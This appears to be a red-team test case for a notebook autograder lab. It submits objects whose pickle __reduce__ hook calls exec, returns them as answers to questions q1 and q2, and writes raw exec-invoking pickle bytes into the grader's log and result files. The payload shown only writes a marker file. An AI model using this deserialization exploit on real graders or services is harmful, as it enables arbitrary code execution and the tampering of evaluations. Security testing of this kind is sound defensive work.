# goal: code in the grader's process
# technique: objects whose `__reduce__` runs code when they are unpickled, at every place a value can stand
# lab: m01_mini
# base: wrong
# expect: graded, student code raised, killed
# %% q1
class Payload:
    def __reduce__(self):
        return (exec, ("open('redteam-pickled_payload', 'w').write('unpickled')",))


def running_mean(values):
    return [Payload() for _ in values]
# %% q2
def standardise(X):
    return np.array([[Payload()] * X.shape[1]] * X.shape[0], dtype=object)


standard_heights = standardise(heights)
# %%
import pickle

for name in (".OTTER_LOG", "results.pkl", "answers.npy"):
    with open(name, "wb") as file:
        file.write(b"c__builtin__\nexec\n(S\"open('redteam-pickled_payload','w').write('log')\"\ntR.")
